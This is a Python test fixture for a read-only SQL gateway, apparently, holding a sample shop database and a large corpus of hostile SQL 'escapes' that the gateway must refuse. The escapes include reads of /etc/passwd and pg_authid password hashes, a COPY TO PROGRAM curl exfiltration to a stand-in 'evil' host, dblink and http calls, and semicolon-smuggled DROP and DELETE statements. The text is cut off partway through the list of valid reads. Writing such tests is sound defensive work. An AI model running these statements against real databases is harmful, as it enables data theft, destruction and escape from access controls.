"""A small shop database and two SQL corpora over it, for the gateway's tests.

- ``SHOP_DDL`` (PostgreSQL) / ``SHOP_DDL_SQLITE``: customers, products, orders, order_items, a
  view and a sequence; ``SHOP_EXTENSIONS`` are created first when the server has them.
- ``SHOP_ROWS``: the rows, as ``table -> (columns, rows)``; values are ints, strings (PostgreSQL
  casts them: timestamps, ``text[]`` literals, ``jsonb``) and None, so the same data loads into
  both engines. :func:`load_shop_postgres` / :func:`load_shop_sqlite` load schema and rows.
- ``ESCAPES``: requests that try to write, leave read-only, reach files or other servers, or
  read hidden relations, server settings or other sessions through what is sent as a read.
  ``expect`` is the ``GatewayError`` code analysis refuses it with, or ``"write"``: analysis
  classifies it as a write (so it needs an idempotency key, and a read-only execution of it
  fails as ``read_only_violation``).
- ``VALID_READS``: analytical reads that must all pass, with their parameters and the catalog
  tables each one reads.
"""

from __future__ import annotations

import sqlite3
from pathlib import Path
from typing import Any, NamedTuple

__all__ = [
    "ESCAPES",
    "SHOP_DDL",
    "SHOP_DDL_SQLITE",
    "SHOP_EXTENSIONS",
    "SHOP_ROWS",
    "SHOP_TABLES",
    "VALID_READS",
    "Escape",
    "Read",
    "load_shop_postgres",
    "load_shop_sqlite",
]

SHOP_EXTENSIONS = ("pg_trgm",)

SHOP_DDL = (
    """CREATE TABLE customers (
        id integer PRIMARY KEY,
        name text NOT NULL,
        email text NOT NULL UNIQUE,
        country text NOT NULL,
        tags text[] NOT NULL DEFAULT '{}',
        created_at timestamptz NOT NULL
    )""",
    """CREATE TABLE products (
        id integer PRIMARY KEY,
        sku text NOT NULL UNIQUE,
        name text NOT NULL,
        category text NOT NULL,
        price numeric(10, 2) NOT NULL,
        attrs jsonb NOT NULL DEFAULT '{}'
    )""",
    """CREATE TABLE orders (
        id integer PRIMARY KEY,
        customer_id integer NOT NULL REFERENCES customers (id),
        status text NOT NULL,
        total numeric(10, 2) NOT NULL,
        created_at timestamptz NOT NULL,
        meta jsonb
    )""",
    """CREATE TABLE order_items (
        order_id integer NOT NULL REFERENCES orders (id),
        product_id integer NOT NULL REFERENCES products (id),
        quantity integer NOT NULL,
        unit_price numeric(10, 2) NOT NULL,
        PRIMARY KEY (order_id, product_id)
    )""",
    """CREATE VIEW customer_revenue AS
        SELECT c.id AS customer_id, c.name, coalesce(sum(o.total), 0) AS revenue
        FROM customers c LEFT JOIN orders o ON o.customer_id = c.id
        GROUP BY c.id, c.name""",
    "CREATE SEQUENCE invoice_numbers",
)

SHOP_DDL_SQLITE = (
    """CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT NOT NULL,
        email TEXT NOT NULL UNIQUE, country TEXT NOT NULL, tags TEXT NOT NULL DEFAULT '{}',
        created_at TEXT NOT NULL)""",
    """CREATE TABLE products (id INTEGER PRIMARY KEY, sku TEXT NOT NULL UNIQUE,
        name TEXT NOT NULL, category TEXT NOT NULL, price NUMERIC NOT NULL,
        attrs TEXT NOT NULL DEFAULT '{}')""",
    """CREATE TABLE orders (id INTEGER PRIMARY KEY,
        customer_id INTEGER NOT NULL REFERENCES customers (id), status TEXT NOT NULL,
        total NUMERIC NOT NULL, created_at TEXT NOT NULL, meta TEXT)""",
    """CREATE TABLE order_items (order_id INTEGER NOT NULL REFERENCES orders (id),
        product_id INTEGER NOT NULL REFERENCES products (id), quantity INTEGER NOT NULL,
        unit_price NUMERIC NOT NULL, PRIMARY KEY (order_id, product_id))""",
    """CREATE VIEW customer_revenue AS
        SELECT c.id AS customer_id, c.name, coalesce(sum(o.total), 0) AS revenue
        FROM customers c LEFT JOIN orders o ON o.customer_id = c.id
        GROUP BY c.id, c.name""",
)

SHOP_TABLES = ("customers", "products", "orders", "order_items", "customer_revenue")

SHOP_ROWS: dict[str, tuple[tuple[str, ...], tuple[tuple[Any, ...], ...]]] = {
    "customers": (
        ("id", "name", "email", "country", "tags", "created_at"),
        (
            (1, "Alice Martin", "alice@example.com", "FR", "{vip,eu}", "2024-01-02 09:00:00+00"),
            (2, "Bob Stone", "bob@example.org", "DE", "{eu}", "2024-01-03 10:30:00+00"),
            (3, "Chloe Wu", "chloe@example.net", "US", "{}", "2024-01-05 12:00:00+00"),
            (4, "Dario Rossi", "dario@example.it", "IT", "{vip}", "2024-01-09 08:15:00+00"),
            (5, "Emma Olsen", "emma@example.no", "NO", "{eu,new}", "2024-02-01 17:45:00+00"),
            (6, "Farid Haddad", "farid@example.com", "FR", "{}", "2024-02-11 11:11:00+00"),
        ),
    ),
    "products": (
        ("id", "sku", "name", "category", "price", "attrs"),
        (
            (1, "MUG-RED", "Red mug", "kitchen", "12.50", '{"color": "red", "sizes": [1, 2]}'),
            (2, "MUG-BLU", "Blue mug", "kitchen", "12.50", '{"color": "blue"}'),
            (3, "TEE-BLK", "Black tee", "clothing", "19.90", '{"color": "black", "sizes": [3]}'),
            (4, "CAP-GRN", "Green cap", "clothing", "15.00", '{"color": "green"}'),
            (5, "BOOK-SQL", "SQL book", "books", "39.00", "{}"),
            (6, "PEN-SET", "Pen set", "office", "7.25", '{"color": "red"}'),
        ),
    ),
    "orders": (
        ("id", "customer_id", "status", "total", "created_at", "meta"),
        (
            (1, 1, "paid", "25.00", "2024-01-05 10:00:00+00", '{"channel": "web"}'),
            (2, 1, "shipped", "39.00", "2024-01-20 14:00:00+00", '{"channel": "app"}'),
            (3, 2, "paid", "32.40", "2024-01-06 09:30:00+00", None),
            (
                4,
                2,
                "refunded",
                "15.00",
                "2024-01-07 16:20:00+00",
                '{"channel": "web", "gift": true}',
            ),
            (5, 3, "open", "7.25", "2024-02-02 08:00:00+00", None),
            (
                6,
                4,
                "paid",
                "78.00",
                "2024-02-03 19:10:00+00",
                '{"coupon": {"code": "WINTER"}, "gift": true}',
            ),
            (7, 4, "paid", "12.50", "2024-02-14 12:00:00+00", '{"channel": "web"}'),
            (8, 5, "open", "59.80", "2024-02-15 13:13:00+00", '{"channel": "app"}'),
            (9, 1, "paid", "19.90", "2024-03-01 07:00:00+00", None),
            (10, 5, "shipped", "46.25", "2024-03-02 18:00:00+00", '{"channel": "web"}'),
        ),
    ),
    "order_items": (
        ("order_id", "product_id", "quantity", "unit_price"),
        (
            (1, 1, 2, "12.50"),
            (2, 5, 1, "39.00"),
            (3, 1, 1, "12.50"),
            (3, 3, 1, "19.90"),
            (4, 4, 1, "15.00"),
            (5, 6, 1, "7.25"),
            (6, 5, 2, "39.00"),
            (7, 2, 1, "12.50"),
            (8, 3, 2, "19.90"),
            (8, 4, 1, "15.00"),
            (8, 2, 1, "5.00"),
            (9, 3, 1, "19.90"),
            (10, 5, 1, "39.00"),
            (10, 6, 1, "7.25"),
        ),
    ),
}


def load_shop_postgres(conn: Any) -> None:
    """Create the shop in the database of ``conn`` (a sync psycopg connection) and commit."""
    available = {
        row[0] for row in conn.execute("SELECT name FROM pg_available_extensions").fetchall()
    }
    for extension in SHOP_EXTENSIONS:
        if extension in available:
            conn.execute(f"CREATE EXTENSION IF NOT EXISTS {extension}")
    for statement in SHOP_DDL:
        conn.execute(statement)
    for table, (columns, rows) in SHOP_ROWS.items():
        marks = ", ".join(["%s"] * len(columns))
        sql = f"INSERT INTO {table} ({', '.join(columns)}) VALUES ({marks})"
        with conn.cursor() as cur:
            cur.executemany(sql, rows)
    conn.commit()


def load_shop_sqlite(conn: sqlite3.Connection) -> None:
    """Create the shop in a SQLite database and commit."""
    for statement in SHOP_DDL_SQLITE:
        conn.execute(statement)
    for table, (columns, rows) in SHOP_ROWS.items():
        marks = ", ".join(["?"] * len(columns))
        conn.executemany(f"INSERT INTO {table} ({', '.join(columns)}) VALUES ({marks})", rows)
    conn.commit()


def shop_sqlite_file(directory: Path) -> Path:
    """A SQLite file in ``directory`` holding the shop schema and rows."""
    path = directory / "shop.db"
    conn = sqlite3.connect(path)
    try:
        load_shop_sqlite(conn)
    finally:
        conn.close()
    return path


class Escape(NamedTuple):
    sql: str
    expect: str  # a GatewayError code, or "write"
    note: str


ESCAPES: tuple[Escape, ...] = (
    # several statements, however hidden
    Escape(
        "COMMIT; INSERT INTO customers (id, name, email, country, created_at) "
        "VALUES (99, 'x', 'x@x', 'FR', now())",
        "multiple_statements",
        "end the read-only transaction, then write",
    ),
    Escape("SELECT 1 /* ; */; DROP TABLE orders", "multiple_statements", "semicolon in comment"),
    Escape("SELECT ';' AS x; DROP TABLE orders", "multiple_statements", "semicolon in a string"),
    Escape("SELECT $$;$$; DELETE FROM orders", "multiple_statements", "dollar quoting"),
    Escape(
        "SELECT $tag$ '; $tag$ AS x; DELETE FROM orders",
        "multiple_statements",
        "tagged dollar quoting around a stray quote",
    ),
    Escape("SELECT 1 -- harmless\n; TRUNCATE orders", "multiple_statements", "line comment trick"),
    Escape("SELECT E'\\x3b'; DELETE FROM orders", "multiple_statements", "escaped semicolon"),
    Escape("SELECT 1; ROLLBACK", "multiple_statements", "trailing transaction control"),
    # transaction control and session state
    Escape("SET TRANSACTION READ WRITE", "forbidden_statement", "leave read-only"),
    Escape(
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "forbidden_statement",
        "leave read-only for the session",
    ),
    Escape("set default_transaction_read_only = off", "forbidden_statement", "SET"),
    Escape("SET LOCAL statement_timeout = 0", "forbidden_statement", "lift the timeout"),
    Escape("RESET ALL", "forbidden_statement", "RESET"),
    Escape("SET ROLE postgres", "forbidden_statement", "change role"),
    Escape("COMMIT", "forbidden_statement", "transaction control"),
    Escape("BEGIN READ WRITE", "forbidden_statement", "transaction control"),
    Escape("START TRANSACTION READ WRITE", "forbidden_statement", "transaction control"),
    Escape("SAVEPOINT s1", "forbidden_statement", "transaction control"),
    Escape("DISCARD ALL", "forbidden_statement", "session reset"),
    # files and programs
    Escape("SELECT * FROM pg_read_file('/etc/passwd')", "forbidden_function", "file in FROM"),
    Escape("SeLeCt pg_catalog.PG_READ_FILE('/etc/passwd')", "forbidden_function", "case, schema"),
    Escape("SELECT \"pg_read_file\"('/etc/passwd')", "forbidden_function", "quoted name"),
    Escape(
        "SELECT U&\"pg\\005fread\\005ffile\"('/etc/passwd')",
        "forbidden_function",
        "unicode-escaped name",
    ),
    Escape(
        "SELECT ('/etc/passwd'::text).pg_read_file",
        "forbidden_function",
        "field-selection call syntax",
    ),
    Escape(
        "SELECT CAST(pg_read_binary_file('/etc/shadow') AS text)",
        "forbidden_function",
        "inside a cast",
    ),
    Escape("SELECT * FROM pg_ls_dir('.') AS f", "forbidden_function", "directory listing"),
    Escape("SELECT pg_stat_file('postgresql.conf')", "forbidden_function", "file metadata"),
    Escape(
        "SELECT lo_export(lo_import('/etc/passwd'), '/tmp/passwd')",
        "forbidden_function",
        "large objects",
    ),
    Escape("SELECT lo_unlink(16385)", "forbidden_function", "large objects"),
    Escape("COPY orders TO PROGRAM 'curl -d @- http://evil'", "forbidden_statement", "COPY"),
    Escape("COPY (SELECT * FROM customers) TO '/tmp/c.csv'", "forbidden_statement", "COPY"),
    Escape("COPY orders FROM STDIN", "forbidden_statement", "COPY in"),
    # other servers
    Escape(
        "SELECT * FROM dblink('host=evil dbname=x', 'SELECT 1') AS t(x int)",
        "forbidden_function",
        "dblink in FROM",
    ),
    Escape(
        "SELECT dblink_exec('dbname=shop', 'DELETE FROM orders')",
        "forbidden_function",
        "dblink write on a second connection",
    ),
    Escape(
        "SELECT * FROM orders WHERE total > "
        "(SELECT sum(x) FROM dblink('', 'SELECT 1') AS t(x int))",
        "forbidden_function",
        "dblink in a nested subquery",
    ),
    Escape("SELECT http_get('http://evil/')", "forbidden_function", "pgsql-http"),
    # SQL run from strings
    Escape(
        "SELECT query_to_xml('delete from orders returning *', true, false, '')",
        "forbidden_function",
        "SQL text run past analysis",
    ),
    Escape(
        "SELECT table_to_xml('pg_authid', true, false, '')",
        "forbidden_function",
        "table read by name",
    ),
    Escape(
        "SELECT ts_stat('SELECT to_tsvector(name) FROM customers')",
        "forbidden_function",
        "SQL text run past analysis",
    ),
    Escape(
        "SELECT * FROM crosstab('SELECT 1, 2, 3') AS t(a int, b int)",
        "forbidden_function",
        "tablefunc runs SQL text",
    ),
    # server administration, sleeping, locks
    Escape(
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        "forbidden_function",
        "settings",
    ),
    Escape("SELECT pg_sleep(3600)", "forbidden_function", "hold a connection"),
    Escape("SELECT id FROM orders ORDER BY pg_sleep(10)", "forbidden_function", "in ORDER BY"),
    Escape(
        "SELECT g.pg_sleep FROM generate_series(1, 1) AS g",
        "forbidden_function",
        "field-selection call on a function's rows",
    ),
    Escape(
        "SELECT o.id FROM orders o, LATERAL (SELECT pg_read_file('/etc/passwd') AS f) AS x",
        "forbidden_function",
        "in a lateral subquery",
    ),
    Escape(
        "SELECT * FROM customers WHERE id IN (SELECT pg_advisory_lock(1))",
        "forbidden_function",
        "advisory lock in WHERE",
    ),
    Escape("SELECT pg_try_advisory_lock(42)", "forbidden_function", "advisory lock"),
    Escape(
        "WITH l AS (SELECT pg_advisory_xact_lock(7)) SELECT * FROM l",
        "forbidden_function",
        "advisory lock in a CTE",
    ),
    Escape(
        "SELECT status FROM orders GROUP BY status HAVING count(pg_sleep(1)) > 0",
        "forbidden_function",
        "in HAVING",
    ),
    Escape(
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "forbidden_function",
        "kill sessions",
    ),
    Escape("SELECT pg_reload_conf()", "forbidden_function", "reload the server"),
    Escape("SELECT pg_notify('orders', 'x')", "forbidden_function", "NOTIFY as a function"),
    # statements that are not reads or writes
    Escape("DO $$ BEGIN DELETE FROM orders; END $$", "forbidden_statement", "anonymous block"),
    Escape("CALL refund_everything()", "forbidden_statement", "procedure"),
    Escape("PREPARE p AS DELETE FROM orders", "forbidden_statement", "prepared write"),
    Escape("EXECUTE p", "forbidden_statement", "run a prepared statement"),
    Escape("DEALLOCATE ALL", "forbidden_statement", "prepared statements"),
    Escape("SELECT * INTO loot FROM customers", "forbidden_statement", "SELECT INTO"),
    Escape(
        "CREATE TEMP TABLE loot AS SELECT * FROM customers",
        "forbidden_statement",
        "CREATE TABLE AS",
    ),
    Escape("CREATE TEMP TABLE scratch (x int)", "forbidden_statement", "temporary table"),
    Escape("DROP TABLE orders", "forbidden_statement", "DDL"),
    Escape("TRUNCATE orders", "forbidden_statement", "DDL"),
    Escape("ALTER TABLE orders ADD COLUMN pwned int", "forbidden_statement", "DDL"),
    Escape("CREATE EXTENSION dblink", "forbidden_statement", "DDL"),
    Escape("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "forbidden_statement", "LOCK"),
    Escape("NOTIFY orders_changed, 'x'", "forbidden_statement", "NOTIFY"),
    Escape("LISTEN orders_changed", "forbidden_statement", "LISTEN"),
    Escape("VACUUM orders", "forbidden_statement", "maintenance"),
    Escape("ANALYZE orders", "forbidden_statement", "maintenance"),
    Escape("GRANT ALL ON orders TO PUBLIC", "forbidden_statement", "privileges"),
    Escape(
        "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM customers", "forbidden_statement", "cursor"
    ),
    Escape("LOAD 'plpgsql'", "forbidden_statement", "load a library"),
    Escape("REFRESH MATERIALIZED VIEW customer_revenue", "forbidden_statement", "REFRESH MATVIEW"),
    Escape("SECURITY LABEL ON TABLE orders IS 'x'", "forbidden_statement", "security label"),
    Escape("EXPLAIN ANALYZE DELETE FROM orders", "forbidden_statement", "EXPLAIN ANALYZE write"),
    Escape(
        "EXPLAIN (ANALYZE, FORMAT JSON) WITH x AS (DELETE FROM orders RETURNING 1) SELECT * FROM x",
        "forbidden_statement",
        "EXPLAIN ANALYZE of a hidden write",
    ),
    Escape(
        "MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE",
        "forbidden_statement",
        "MERGE",
    ),
    Escape("SELECT * FROM customers FOR UPDATE", "forbidden_statement", "row locks in a read"),
    # writes sent as reads: the executor's read-only check
    Escape(
        "WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone",
        "write",
        "writable CTE",
    ),
    Escape(
        "WITH x AS (UPDATE orders SET status = 'void' RETURNING id) SELECT * FROM x",
        "write",
        "writable CTE",
    ),
    Escape("SELECT nextval('invoice_numbers')", "write", "sequence advance"),
    Escape("SELECT setval('invoice_numbers', 1)", "write", "sequence reset"),
    Escape("DELETE FROM order_items", "write", "plain write"),
    # the catalog only: system relations are not reachable
    Escape(
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'",
        "unknown_table",
        "settings through a view",
    ),
    Escape("SELECT rolname, rolpassword FROM pg_authid", "unknown_table", "password hashes"),
    # hidden relations in clauses once left unresolved: VALUES' own clauses, assigned subscripts
    Escape(
        "VALUES (1) LIMIT (SELECT string_agg(agent_id || key, ',')::int "
        "FROM corral.gateway_journal)",
        "unknown_table",
        "other agents' keys in a VALUES LIMIT",
    ),
    Escape(
        "VALUES (1) OFFSET (SELECT count(*)::int FROM pg_authid)",
        "unknown_table",
        "system catalog in a VALUES OFFSET",
    ),
    Escape(
        "VALUES (1) ORDER BY (SELECT count(*) FROM pg_authid)",
        "unknown_table",
        "system catalog in a VALUES ORDER BY",
    ),
    Escape(
        "SELECT * FROM (VALUES (1) FETCH FIRST (SELECT count(*)::int FROM pg_authid) ROWS ONLY) v",
        "unknown_table",
        "system catalog in a nested VALUES FETCH",
    ),
    Escape(
        "UPDATE customers SET tags[(SELECT count(*)::int FROM pg_authid)] = 'x' WHERE id = 1",
        "unknown_table",
        "subscript of a column set by UPDATE",
    ),
    Escape(
        "INSERT INTO customers (id, name, email, country, created_at, "
        "tags[(SELECT count(*)::int FROM pg_authid)]) "
        "VALUES (99, 'x', 'x@x', 'FR', now(), 'x')",
        "unknown_table",
        "subscript in an INSERT column list",
    ),
    Escape(
        "INSERT INTO customers (id, name, email, country, created_at) "
        "VALUES (1, 'x', 'x@x', 'FR', now()) ON CONFLICT (id) "
        "DO UPDATE SET tags[(SELECT count(*)::int FROM corral.gateway_journal)] = 'x'",
        "unknown_table",
        "subscript in ON CONFLICT DO UPDATE SET",
    ),
    # a relation's row type names it
    Escape(
        "SELECT (NULL::corral.gateway_journal).*",
        "unknown_table",
        "the journal's columns through its row type",
    ),
    Escape("SELECT (NULL::pg_authid).*", "unknown_table", "a system catalog's row type"),
    Escape(
        "SELECT * FROM json_populate_record(NULL::pg_catalog.pg_authid, '{}')",
        "unknown_table",
        "a system catalog's row type as a record template",
    ),
    Escape(
        "SELECT x FROM jsonb_to_record('{}') AS t(x pg_shadow)",
        "unknown_table",
        "a system view's row type in a column definition list",
    ),
    # lasting changes a READ ONLY transaction does not stop
    Escape(
        "SELECT gin_clean_pending_list('orders_pkey'::regclass)",
        "forbidden_function",
        "index maintenance",
    ),
    Escape(
        "SELECT brin_summarize_new_values('orders_pkey'::regclass)",
        "forbidden_function",
        "index maintenance",
    ),
    Escape(
        "SELECT brin_summarize_range('orders_pkey'::regclass, 0)",
        "forbidden_function",
        "index maintenance",
    ),
    Escape(
        "SELECT brin_desummarize_range('orders_pkey'::regclass, 0)",
        "forbidden_function",
        "index maintenance",
    ),
    Escape("SELECT set_limit(0.1)", "forbidden_function", "pg_trgm session threshold"),
    Escape("SELECT setseed(0.5)", "forbidden_function", "session random seed"),
    Escape("SELECT txid_current()", "forbidden_function", "consume a transaction id"),
    Escape("SELECT pg_current_xact_id()", "forbidden_function", "consume a transaction id"),
    # the server and other sessions exposed
    Escape(
        "SELECT query FROM pg_stat_get_activity(NULL)",
        "forbidden_function",
        "other sessions' queries",
    ),
    Escape(
        "SELECT pg_stat_get_backend_activity(b) FROM pg_stat_get_backend_idset() AS b",
        "forbidden_function",
        "other sessions' queries, backend by backend",
    ),
    Escape("SELECT * FROM pg_hba_file_rules()", "forbidden_function", "authentication rules"),
    Escape("SELECT * FROM pg_ident_file_mappings()", "forbidden_function", "user mappings"),
    Escape("SELECT * FROM pg_show_all_file_settings()", "forbidden_function", "config files"),
    Escape("SELECT * FROM pg_show_all_settings()", "forbidden_function", "every setting"),
    Escape("SELECT * FROM pg_lock_status()", "forbidden_function", "other sessions' locks"),
    Escape("SELECT pg_database_size('postgres')", "forbidden_function", "other databases"),
    Escape("SELECT pg_tablespace_size('pg_default')", "forbidden_function", "tablespaces"),
    Escape("SELECT * FROM pg_control_system()", "forbidden_function", "control file"),
    Escape("SELECT current_setting('data_directory')", "forbidden_function", "server paths"),
    Escape("SELECT current_setting('HBA_FILE', true)", "forbidden_function", "server paths"),
    Escape(
        "SELECT current_setting(name) FROM (VALUES ('config_file')) AS s(name)",
        "forbidden_function",
        "a setting named by an expression",
    ),
    Escape(
        "SELECT s.current_setting FROM unnest(ARRAY['data_directory']) AS s",
        "forbidden_function",
        "a setting read through field-selection syntax",
    ),
    # the catalog's names, definitions and privileges
    Escape(
        "SELECT 'corral.gateway_journal'::regclass::oid",
        "forbidden_function",
        "a hidden table's existence through a regclass cast",
    ),
    Escape(
        "SELECT CAST('pg_catalog.pg_authid' AS pg_catalog.regclass)",
        "forbidden_function",
        "CAST to regclass",
    ),
    Escape(
        "SELECT r::regrole::text FROM generate_series(1, 20000) AS r",
        "forbidden_function",
        "every role, by casting integers to regrole",
    ),
    Escape(
        'SELECT x FROM jsonb_to_record(\'{"x": "pg_authid"}\') AS t(x regclass)',
        "forbidden_function",
        "a regclass column in a column definition list",
    ),
    Escape(
        "SELECT unnest('{pg_authid,pg_shadow}'::regclass[])",
        "forbidden_function",
        "an array of regclass",
    ),
    Escape("SELECT regclass('pg_authid')", "forbidden_function", "the regclass function"),
    Escape("SELECT to_regclass('corral.gateway_journal')", "forbidden_function", "to_regclass"),
    Escape(
        "SELECT pg_get_viewdef('pg_roles')",
        "forbidden_function",
        "a system view's definition",
    ),
    Escape(
        "SELECT pg_get_functiondef(p) FROM generate_series(1, 20000) AS p",
        "forbidden_function",
        "every function's source",
    ),
    Escape(
        "SELECT pg_describe_object(1259, r, 0) FROM generate_series(16384, 20000) AS r",
        "forbidden_function",
        "every object's name, by oid",
    ),
    Escape(
        "SELECT format_type(t, NULL) FROM generate_series(1, 5000) AS t",
        "forbidden_function",
        "every type's name, by oid",
    ),
    Escape(
        "SELECT pg_stat_get_numscans(r) FROM generate_series(16384, 20000) AS r",
        "forbidden_function",
        "per-table statistics, hidden tables included",
    ),
    Escape("SELECT pg_relation_size(1260)", "forbidden_function", "a system catalog's size"),
    Escape(
        "SELECT has_table_privilege('corral.gateway_journal', 'SELECT')",
        "forbidden_function",
        "privileges on a hidden table",
    ),
    Escape("SELECT pg_has_role('postgres', 'MEMBER')", "forbidden_function", "role membership"),
    Escape("SELECT obj_description(1260)", "forbidden_function", "a catalog object's comment"),
    Escape("SELECT inet_server_addr()", "forbidden_function", "the server's address"),
    Escape("SELECT pg_current_wal_lsn()", "forbidden_function", "the server's WAL position"),
    Escape("SELECT pg_xact_status('1'::xid8)", "forbidden_function", "other transactions"),
    Escape("SELECT txid_status(1)", "forbidden_function", "other transactions, older name"),
    Escape("SELECT TXID_STATUS(g) FROM generate_series(700, 800) g", "forbidden_function", "case"),
    Escape("SELECT txid_current_snapshot()", "forbidden_function", "transactions in progress"),
    Escape("SELECT pg_current_snapshot()", "forbidden_function", "transactions in progress"),
    Escape("SELECT pg_export_snapshot()", "forbidden_function", "export a snapshot"),
    # the gateway's own objects: its sequences, named by a string the server looks up
    Escape(
        "SELECT setval('corral.corral_breaker_records_seq_seq', 9223372036854775807)",
        "unknown_table",
        "switch persistent freezes off",
    ),
    Escape(
        "SELECT nextval('corral.corral_breaker_records_seq_seq')",
        "unknown_table",
        "count the freezes",
    ),
    Escape(
        "SELECT currval('corral.corral_breaker_records_seq_seq')",
        "unknown_table",
        "a hidden sequence's existence",
    ),
    Escape(
        "SELECT nextval(' \"corral\" . CORRAL_BREAKER_RECORDS_SEQ_SEQ ')",
        "unknown_table",
        "quoted, spaced and upper-case parts",
    ),
    Escape(
        "SELECT * FROM setval('corral.corral_breaker_records_seq_seq'::text, 1) AS s",
        "unknown_table",
        "in FROM, under a cast to text",
    ),
    Escape("SELECT nextval('16390')", "unknown_table", "a relation by its oid as text"),
    Escape("SELECT nextval(16390)", "forbidden_function", "a relation by its oid"),
    Escape(
        "SELECT nextval(s) FROM (VALUES ('corral.corral_breaker_records_seq_seq')) AS v(s)",
        "forbidden_function",
        "a relation named by an expression",
    ),
    Escape("SELECT setval($1, 1)", "forbidden_function", "a relation named by a parameter"),
    Escape(
        "SELECT ('corral.corral_breaker_records_seq_seq'::text).nextval",
        "forbidden_function",
        "field-selection call syntax",
    ),
    Escape(
        "SELECT nextval(regclass => 'corral.corral_breaker_records_seq_seq')",
        "forbidden_function",
        "a named argument",
    ),
    Escape("SELECT currval('pg_catalog.pg_class')", "unknown_table", "a system relation"),
    # functions that answer for a relation named by a string: for hidden ones as for others
    Escape(
        "SELECT row_security_active('corral.gateway_journal')",
        "unknown_table",
        "a hidden table's row security",
    ),
    Escape(
        "SELECT row_security_active(r) FROM generate_series(16384, 20000) AS r",
        "forbidden_function",
        "every relation's existence, by oid",
    ),
    Escape(
        "SELECT pg_relation_is_updatable('corral.gateway_journal', true)",
        "unknown_table",
        "a hidden table's updatability",
    ),
    Escape(
        "SELECT pg_column_is_updatable('corral.gateway_journal', 1::smallint, true)",
        "unknown_table",
        "a hidden column's updatability",
    ),
    Escape(
        "SELECT pg_index_has_property('corral.gateway_journal_pkey', 'clusterable')",
        "unknown_table",
        "a hidden index",
    ),
    Escape(
        "SELECT pg_relation_is_publishable('corral.gateway_journal')",
        "unknown_table",
        "a hidden table, publishable",
    ),
    Escape(
        "SELECT pg_table_is_visible(r) FROM generate_series(16384, 20000) AS r",
        "forbidden_function",
        "every relation's existence, by oid",
    ),
    Escape("SELECT pg_type_is_visible(16390)", "forbidden_function", "a type's existence"),
    Escape(
        "SELECT * FROM pgstattuple('corral.gateway_journal')",
        "forbidden_function",
        "a contrib module's look at a hidden table",
    ),
    Escape(
        "SELECT pg_prewarm('corral.corral_breaker_records')",
        "forbidden_function",
        "a contrib module's look at a hidden table",
    ),
    # values of catalog object types, to which integers are cast implicitly
    Escape(
        "SELECT x::text FROM (SELECT pg_typeof(1) AS x UNION ALL "
        "SELECT g FROM generate_series(16384, 200000) g) s",
        "forbidden_function",
        "every type's name, through a UNION with regtype",
    ),
    Escape(
        "SELECT coalesce(pg_typeof(1), 16390)::text",
        "forbidden_function",
        "a type's name, through COALESCE",
    ),
    Escape(
        "SELECT ARRAY[pg_typeof(1), 16390]::text",
        "forbidden_function",
        "a type's name, through an array",
    ),
    Escape(
        "SELECT pg_typeof(1) = 'corral.gateway_journal'",
        "forbidden_function",
        "a hidden row type's existence, through a comparison",
    ),
    Escape("SELECT (1).pg_typeof", "forbidden_function", "pg_typeof by field selection"),
    Escape(
        "SELECT g.pg_typeof FROM generate_series(1, 2) AS g",
        "forbidden_function",
        "pg_typeof by field selection on a function's row",
    ),
    Escape("SELECT get_current_ts_config()", "forbidden_function", "a regconfig value"),
    # the connection's own state, the gateway's statements included
    Escape("SELECT * FROM pg_prepared_statement()", "forbidden_function", "the journal's SQL"),
    Escape("SELECT statement FROM pg_cursor()", "forbidden_function", "open cursors"),
    Escape("SELECT * FROM pg_prepared_statements", "unknown_table", "the view of them"),
    Escape(
        "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM orders",
        "forbidden_statement",
        "EXPLAIN of a write whose last ANALYZE option is on",
    ),
    # statements that crashed the parser (C stack) or the analysis (RecursionError)
    Escape("SELECT 1" + "+1" * 100_000, "statement_too_complex", "200 KB operator chain"),
    Escape("SELECT 1" + "+1" * 2_000, "statement_too_complex", "2,000-term operator chain"),
    Escape(
        "SELECT " + "(SELECT " * 200 + "1" + ")" * 200,
        "statement_too_complex",
        "200 nested subqueries",
    ),
    Escape("SELECT " + "(" * 12_000 + "1" + ")" * 12_000, "statement_too_complex", "parens"),
)


class Read(NamedTuple):
    sql: str
    tables: frozenset[str]  # catalog tables read
    params: tuple[Any, ...] = ()


def _read(sql: str, *tables: str, params: tuple[Any, ...] = ()) -> Read:
    return Read(sql, frozenset(tables), params)


VALID_READS: tuple[Read, ...] = (
    _read("SELECT id, name FROM customers WHERE country = $1", "customers", params=("FR",)),
    _read(
        "SELECT o.id, c.name, o.total FROM orders o "
        "JOIN customers c ON c.id = o.customer_id WHERE o.status = 'paid'",
        "orders",
        "customers",
    ),
    _read(
        "SELECT customer_id, id, total, sum(total) OVER (PARTITION BY customer_id "
        "ORDER BY created_at ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running "
        "FROM orders",
        "orders",
    ),
    _read(
        "SELECT * FROM (SELECT p.*, rank() OVER w AS r, lag(price) OVER w AS prev "
        "FROM products p WINDOW w AS (PARTITION BY category ORDER BY price DESC)) AS ranked "
        "WHERE r <= 2 AND ranked.category <> 'office'",
        "products",
    ),
    _read(
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) AS median_total, "
        "mode() WITHIN GROUP (ORDER BY status) AS usual_status FROM orders",
        "orders",
    ),
    _read(
        "SELECT count(*) FILTER (WHERE status = 'paid') AS paid, "
        "sum(total) FILTER (WHERE status <> 'paid') AS other FROM orders",
        "orders",
    ),
    _read(
        "SELECT status, customer_id, sum(total) FROM orders "
        "GROUP BY GROUPING SETS ((status), (customer_id), ())",
        "orders",
    ),
    _read(
        "SELECT p.category, p.name, sum(oi.quantity) AS units FROM order_items oi "
        "JOIN products p ON p.id = oi.product_id GROUP BY ROLLUP (p.category, p.name)",
        "order_items",
        "products",
    ),
    _read(
        "SELECT status, date_trunc('month', created_at) AS month, "
        "grouping(status, date_trunc('month', created_at)) AS g, count(*) FROM orders "
        "GROUP BY CUBE (status, date_trunc('month', created_at))",
        "orders",
    ),
    _read(
